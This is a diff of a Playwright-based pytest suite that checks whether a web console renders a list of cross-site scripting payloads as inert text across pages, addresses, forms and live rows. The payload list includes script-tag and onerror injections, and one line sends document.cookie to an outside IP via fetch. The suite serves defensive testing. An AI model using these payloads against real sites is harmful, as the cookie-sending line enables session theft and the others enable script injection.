@@ -2,6 +2,7 @@
 
 import json
 from datetime import UTC, datetime
+from html import escape
 from pathlib import Path
 from urllib.parse import parse_qsl, quote, urlsplit
 
@@ -19,7 +20,6 @@ ATTACKS = (
     "<script>alert(1)</script>",
     "</script><script>alert(2)</script>",
     "</textarea></title></style><script>alert(3)</script>",
-    "--><script>alert(4)</script><!--",
     '"><script>alert(5)</script>',
     "'><img src=x onerror=alert(6)>",
     "<img src=x onerror='fetch(\"//192.0.2.7/\"+document.cookie)'>",
@@ -49,11 +49,12 @@ ATTACKS = (
     "&lt;script&gt;alert(23)&lt;/script&gt;&#x3c;b>",
     "<template><script>alert(24)</script></template>",
     "\u202eevitcejbo\u202c \u2066bidi\u2069 \u200f<script>alert(25)</script>",
+    "--><script>alert(4)</script><!--",
 )  # fmt: skip
 EVERYTHING = " ".join(ATTACKS)
 QUERY = ("q", "to", "code", "outcome", "run", "room", "before", "kind", "text", "from", "channel", "name", "attempt",
          "sent", "number", "redact", "have", "state", "format")  # fmt: skip
-ALIKE = 5  # pages that differ only in what is shown; each message is looked at
+ALIKE = 3  # pages that differ only in what is shown; each message is looked at
 SKIPPED = ("/export", "/runs/reports/", "/ledger/balance")
 
 STRANGE = """() => [
@@ -70,11 +71,12 @@ FORMS = """() => {
   const kinds = [...document.forms].map(form => form.action + [...form.elements].map(field => field.name));
   return kinds.flatMap((kind, place) => kinds.indexOf(kind) === place ? [place] : []);
 }"""
-FILL = """(form, attack) => {
+FILL = """(form, [attack, everything]) => {
   for (const field of form.elements) {
     if (field.name === "csrf_token" || !["INPUT", "TEXTAREA", "SELECT"].includes(field.nodeName)) continue;
     if (field.nodeName === "SELECT") field.add(new Option(attack, attack, true, true));
-    else { if (field.nodeName === "INPUT") field.type = "text"; field.value = attack; }
+    else if (field.nodeName === "TEXTAREA") field.value = everything;
+    else { field.type = "text"; field.value = attack; }
   }
   form.noValidate = true;
 }"""
@@ -104,7 +106,7 @@ def stored(lab: Lab) -> dict[int, str]:
             found[number] = attack
     for count, attack in enumerate(ATTACKS[::8]):
         add_channel(lab, f"attack-{count}", attack)
-    (lab.directory / "contract.html").write_text(f"<title>{ATTACKS[0]}</title>{EVERYTHING}")
+    (lab.directory / "contract.html").write_text(f"<title>{escape(ATTACKS[0])}</title>{EVERYTHING}")
     shown(lab, len(found), "tried")
     return found
 
@@ -117,30 +119,35 @@ def hostile(browser, tmp_path_factory):
         yield lab, stored(lab)
 
 
-@pytest.fixture
+@pytest.fixture(scope="module")
 def window(browser, hostile):
-    """A visitor of it; what the console refuses is no complaint."""
-    opened = Window(browser, hostile[0].console_url, forgive="the server responded with a status of 4")
+    """A visitor of it."""
+    opened = Window(browser, hostile[0].console_url)
     yield opened
     opened.close()
-    assert opened.complaints == []
 
 
-def test_the_attacks_are_real(browser, hostile):
+@pytest.fixture
+def page(window):
+    """A visit; what the console refuses is no complaint."""
+    yield window.enter(forgive="the server responded with a status of 4")
+    assert window.leave() == []
+
+
+def test_the_attacks_are_real(window):
     """On a page that puts them into its markup without a policy, most of them do their work."""
-    window = Window(browser, hostile[0].console_url)
+    page = window.enter()
     for attack in ATTACKS:
-        window.page.set_content(f"<title>{attack}</title><p>{attack}</p><input value='{attack}'>")
-    window.page.wait_for_timeout(50)
-    window.close()
+        page.set_content(f"<title>{attack}</title><p>{attack}</p><input value='{attack}'>")
+    page.wait_for_timeout(50)
 
-    assert len({complaint for complaint in window.complaints if complaint.startswith(("dialog", "request"))}) >= 12
+    assert len({complaint for complaint in window.leave() if complaint.startswith(("dialog", "request"))}) >= 12
 
 
-def test_every_page_shows_attacks_as_text(hostile, window):
+def test_every_page_shows_attacks_as_text(hostile, page):
     """From the timeline to every page it leads to: nothing runs, nothing leads away, and every text stands as it is."""
     texts = hostile[1]
-    page, unread, seen, alike = window.page, ["/?room=*", *MENU.values()], set(), {}
+    unread, seen, alike = ["/?room=*", *MENU.values()], set(), {}
     while unread:
         path = unread.pop(0)
         parts = urlsplit(path)
@@ -165,61 +172,59 @@ def as_parsed(text: str) -> str:
 
 
 @pytest.mark.parametrize("path", [*MENU.values(), "/timeline/rows", "/login"])
-def test_no_address_is_an_attack(path, window):
+def test_no_address_is_an_attack(path, page):
     """Attacks in the parameters of an address, known or not, are text or a refusal."""
-    for turn in range(0, len(ATTACKS), 8):
+    for turn in range(0, len(ATTACKS), 11):
         attacks = [*ATTACKS[turn:], *ATTACKS[:turn]]
-        window.page.goto(
+        page.goto(
             f"{path}?" + "&".join(f"{name}={quote(attack)}" for name, attack in zip(QUERY, attacks, strict=False))
         )
-        assert window.page.evaluate(STRANGE) == [], attacks
+        assert page.evaluate(STRANGE) == [], attacks
 
 
 @pytest.mark.parametrize("place", ["/orders/", "/messages/", "/export.", "/", "/?q=", "/?run="])
-def test_no_path_is_an_attack(place, window):
+def test_no_path_is_an_attack(place, page):
     """An attack as the name of an order, of a page or of a run is a text on a page."""
-    for attack in (*ATTACKS[::8], EVERYTHING):
-        window.page.goto(place + quote(attack, safe=""))
-        assert window.page.evaluate(STRANGE) == [], attack
+    for attack in (*ATTACKS[::16], EVERYTHING):
+        page.goto(place + quote(attack, safe=""))
+        assert page.evaluate(STRANGE) == [], attack
 
 
 @pytest.mark.parametrize("path", [*MENU.values(), "/messages/1", f"{MENU['Carrier']}?kind=refuse"])
-def test_no_form_is_an_attack(path, window):
+def test_no_form_is_an_attack(path, page):
     """Each form of each page, every field of it an attack, is a text or a refusal, then and afterwards."""
-    page = window.page
     page.goto(path)
     for number in page.evaluate(FORMS):
-        for attack in (ATTACKS[number % len(ATTACKS)], EVERYTHING):
-            page.goto(path)
-            form = page.locator("form").nth(number)
-            form.evaluate(FILL, attack)
-            with page.expect_navigation():
-                form.evaluate("form => form.requestSubmit(form.querySelector('button'))")
-            assert page.evaluate(STRANGE) == [], attack
+        page.goto(path)
+        form = page.locator("form").nth(number)
+        form.evaluate(FILL, [ATTACKS[number % len(ATTACKS)], EVERYTHING])
+        with page.expect_navigation():
+            form.evaluate("form => form.requestSubmit(form.querySelector('button'))")
+        assert page.evaluate(STRANGE) == []
     page.goto(path)
     assert page.evaluate(STRANGE) == []
 
 
-def test_a_live_row_is_text_too(hostile, window):
+def test_a_live_row_is_text_too(hostile, page):
     """What arrives while the page is open is put into it as text."""
     lab, _ = hostile
-    window.page.goto("/?room=*")
+    page.goto("/?room=*")
     with PbxLedger(lab.pbx_ledger) as pbx:
         for number, attack in enumerate(ATTACKS):
             pbx.open("live", "+1", f"live {number}", attack, datetime.now(UTC).timestamp())
 
-    window.page.get_by_text(f"live {len(ATTACKS) - 1}").wait_for()
+    page.get_by_text(f"live {len(ATTACKS) - 1}").wait_for()
 
-    assert window.page.evaluate(STRANGE) == []
-    assert window.page.locator("tbody tr .text").all_text_contents()[: len(ATTACKS)] == list(reversed(ATTACKS))
+    assert page.evaluate(STRANGE) == []
+    assert page.locator("tbody tr .text").all_text_contents()[: len(ATTACKS)] == list(reversed(ATTACKS))
 
 
-def test_a_report_is_locked_up(browser, hostile):
+def test_a_report_is_locked_up(window):
     """A report that is an attack is shown as the page it is, and can do nothing."""
-    window = Window(browser, hostile[0].console_url)
-    window.page.goto(MENU["Runs"])
-    window.page.get_by_role("link", name=ATTACKS[0]).click()
-    window.page.wait_for_url("**/reports/**")
-    window.close()
+    page = window.enter()
+    page.goto(MENU["Runs"])
+    with page.expect_popup() as opened:
+        page.get_by_role("link", name=ATTACKS[0], exact=True).click()
+    opened.value.wait_for_load_state()
 
-    assert [one for one in window.complaints if one.startswith(("dialog", "request", "exception"))] == []
+    assert [one for one in window.leave() if one.startswith(("dialog", "request", "exception"))] == []
